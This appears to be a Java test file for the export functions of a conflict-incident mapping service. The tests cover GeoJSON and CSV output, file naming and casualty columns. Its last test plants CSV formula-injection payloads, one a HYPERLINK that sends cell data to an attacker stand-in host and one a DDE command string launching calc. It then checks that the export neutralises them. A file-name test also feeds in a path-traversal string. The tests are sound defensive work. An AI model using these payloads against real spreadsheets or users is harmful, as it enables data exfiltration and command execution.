package org.deconfliction.atlas.query;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.deconfliction.atlas.analysis.BankSide;
import org.deconfliction.atlas.analysis.DrawnRegion;
import org.deconfliction.atlas.geodata.SourceReference;
import org.deconfliction.atlas.incident.Incident;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import tools.jackson.databind.JsonNode;

/** Exports carry the answer together with the question, its time and its sources. */
@SpringBootTest
class ResultExportTest {

    private static final Instant AT = Instant.parse("2026-11-22T08:00:00Z");

    @Autowired
    IncidentQueryService queries;

    @Test
    void geoJsonCarriesTheQuestionTheRegionTheTimeAndEverySourceCited() {
        DrawnRegion box = DrawnRegion.rectangle(39.9, 35.1, 40.6, 35.5);
        QueryResult result = queries.run(IncidentQuery.all().withSpatial(new SpatialCondition.InRegion(box)));

        JsonNode export = ResultExport.geoJson(result, AT);

        assertThat(export.get("type").asString()).isEqualTo("FeatureCollection");
        assertThat(export.get("features").size()).isEqualTo(result.total());
        assertThat(export.at("/query/description").asString()).isEqualTo("incidents inside the drawn rectangle");
        assertThat(export.at("/query/exportedAt").asString()).isEqualTo("2026-11-22T08:00:00Z");
        assertThat(export.at("/query/region/type").asString()).isEqualTo("Polygon");
        assertThat(export.at("/query/parameters/region").asString()).startsWith("POLYGON");
        List<String> seeds = result.answers().stream().flatMap(a -> a.incident().sources().stream()).map(s -> s.seed()).distinct().toList();
        assertThat(export.at("/query/sources").findValuesAsString("seed")).containsExactlyInAnyOrderElementsOf(seeds);
        JsonNode first = export.at("/features/0/properties");
        assertThat(first.get("answer").asString()).isIn("inside", "uncertain");
        assertThat(first.get("riverDistanceKm").isNumber()).as("riverDistanceKm is a JSON number").isTrue();
        assertThat(first.get("nearestSiteKm").isNumber()).as("nearestSiteKm is a JSON number").isTrue();
        assertThat(first.get("riverDistanceKm").asDouble())
                .isCloseTo(result.answers().getFirst().attributes().riverDistanceKm(), within(0.0005));
    }

    @Test
    void geoJsonKeepsWhatWasAskedSoThatItCanBeAskedAgainNotOnlyTheResultingArea() {
        JsonNode circle = ResultExport.geoJson(queries.run(IncidentQuery.all().withSpatial(
                new SpatialCondition.InRegion(DrawnRegion.circle(40.1, 35.3, 20_000)))), AT).at("/query/question");
        assertThat(circle.get("kind").asString()).isEqualTo("region");
        assertThat(circle.get("shape").asString()).isEqualTo("circle");
        assertThat(circle.at("/centre/type").asString()).isEqualTo("Point");
        assertThat(circle.at("/centre/coordinates/0").asDouble()).isEqualTo(40.1);
        assertThat(circle.at("/centre/coordinates/1").asDouble()).isEqualTo(35.3);
        assertThat(circle.get("radiusMetres").asDouble()).isEqualTo(20_000);

        JsonNode buffer = ResultExport.geoJson(queries.run(IncidentQuery.all().withSpatial(new SpatialCondition.InRegion(
                DrawnRegion.lineBuffer("LINESTRING (40 35, 40.5 35.2)", 12.5)))), AT).at("/query/question");
        assertThat(buffer.get("shape").asString()).isEqualTo("line-buffer");
        assertThat(buffer.at("/line/type").asString()).isEqualTo("LineString");
        assertThat(buffer.at("/line/coordinates").size()).isEqualTo(2);
        assertThat(buffer.get("bufferKm").asDouble()).isEqualTo(12.5);

        JsonNode near = ResultExport.geoJson(queries.run(IncidentQuery.all().withSpatial(
                new SpatialCondition.NearSite("conoco", 15))), AT).at("/query/question");
        assertThat(near.get("kind").asString()).isEqualTo("near-site");
        assertThat(near.get("site").asString()).isEqualTo("conoco");
        assertThat(near.get("km").isNumber()).isTrue();
        assertThat(near.get("km").asDouble()).isEqualTo(15);
    }

    @Test
    void aFileNameNamesTheQuestionAndTheDay() {
        java.time.LocalDate day = java.time.LocalDate.parse("2026-12-02");
        assertThat(ExportedQuestion.fileName(IncidentQuery.all().withSpatial(new SpatialCondition.NearSite("conoco", 15)), day, "geojson"))
                .isEqualTo("atlas-within-15km-of-conoco-2026-12-02.geojson");
        assertThat(ExportedQuestion.fileName(IncidentQuery.all().withSpatial(new SpatialCondition.NearRiver(2.5)), day, "csv"))
                .isEqualTo("atlas-within-2.5km-of-the-euphrates-2026-12-02.csv");
        assertThat(ExportedQuestion.fileName(IncidentQuery.all().withSpatial(new SpatialCondition.OnBank(BankSide.WEST)), day, "csv"))
                .isEqualTo("atlas-west-of-the-euphrates-2026-12-02.csv");
        assertThat(ExportedQuestion.fileName(IncidentQuery.all(), day, "csv")).isEqualTo("atlas-all-incidents-2026-12-02.csv");
        assertThat(ExportedQuestion.fileName(IncidentQuery.all().withSpatial(new SpatialCondition.NearSite("../\\x y<", 1)), day, "csv"))
                .isEqualTo("atlas-within-1km-of-x-y-2026-12-02.csv");
    }

    @Test
    void csvHasCasualtyColumnsPerSideAndKeepsADrawnLineAndItsBuffer() {
        QueryResult result = queries.run(IncidentQuery.all().withSpatial(new SpatialCondition.InRegion(
                DrawnRegion.lineBuffer("LINESTRING (40 35, 40.5 35.2)", 12.5))));
        List<String> lines = Arrays.asList(ResultExport.csv(result, AT).split("\r\n"));
        // A comment holding a comma is quoted as one cell.
        assertThat(lines).contains("\"# buffered line (WKT, lon lat): LINESTRING (40 35, 40.5 35.2)\"",
                "# buffer on each side (km): 12.5");

        QueryResult all = queries.run(IncidentQuery.all());
        List<String> rows = Arrays.asList(ResultExport.csv(all, AT).split("\r\n"));
        List<String> header = Arrays.asList(rows.stream().filter(l -> l.startsWith("id,")).findFirst().orElseThrow().split(","));
        assertThat(header).contains("side_a_killed_min", "side_a_killed_max", "side_b_killed_min", "side_b_killed_max",
                "side_b_wounded_max", "civilians_killed_max", "casualty_note");
        Incident khasham = all.answers().stream().map(IncidentAnswer::incident)
                .filter(i -> i.id().equals("battle-of-khasham-2018")).findFirst().orElseThrow();
        String row = rows.stream().filter(l -> l.startsWith("battle-of-khasham-2018,")).findFirst().orElseThrow();
        List<String> cells = Arrays.asList(row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1));
        assertThat(cells).hasSameSizeAs(header);
        assertThat(cells.get(header.indexOf("side_b_killed_max")))
                .isEqualTo(String.valueOf(khasham.casualties().sideB().killed().max()));
        assertThat(cells.get(header.indexOf("side_b_killed_min")))
                .isEqualTo(String.valueOf(khasham.casualties().sideB().killed().min()));
    }

    @Test
    void csvStatesTheQuestionInCommentLinesThenOneQuotedRowPerIncident() {
        QueryResult result = queries.run(IncidentQuery.all().withSpatial(new SpatialCondition.OnBank(BankSide.EAST)));

        List<String> lines = Arrays.asList(ResultExport.csv(result, AT).split("\r\n"));

        assertThat(lines.get(0)).isEqualTo("# Deconfliction Atlas export: incidents east of the Euphrates");
        assertThat(lines.get(1)).isEqualTo("# exported at: 2026-11-22T08:00:00Z");
        assertThat(lines).contains("# bank: east");
        int header = lines.indexOf(lines.stream().filter(l -> l.startsWith("id,")).findFirst().orElseThrow());
        assertThat(lines.size() - header - 1).isEqualTo(result.total());
        String khasham = lines.stream().filter(l -> l.startsWith("battle-of-khasham-2018,")).findFirst().orElseThrow();
        assertThat(khasham).contains(",east,").contains("[000_5de0546176a6674a.txt]");
    }

    @Test
    void csvCellsFromDataNeverReachASpreadsheetAsFormulas() {
        QueryResult shipped = queries.run(IncidentQuery.all());
        IncidentAnswer first = shipped.answers().getFirst();
        Incident i = first.incident();
        Incident planted = new Incident(i.id(), "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", i.summary(),
                i.category(), i.actors(), i.opponent(), i.casualties(), i.place(), i.siteId(), i.location(),
                i.uncertainty(), i.date(), i.timeOfDay(), i.country(),
                List.of(new SourceReference("@SUM(1+1)*cmd|' /C calc'!A0", null, null)), i.disagreements());
        QueryResult result = new QueryResult(IncidentQuery.all(),
                List.of(new IncidentAnswer(planted, first.answer(), first.attributes())));

        String row = Arrays.stream(ResultExport.csv(result, AT).split("\r\n")).filter(l -> l.startsWith(i.id() + ","))
                .findFirst().orElseThrow();

        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",")
                .endsWith(",'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")).noneMatch(cell -> cell.matches("[=+@\\t\\r].*"));
    }
}
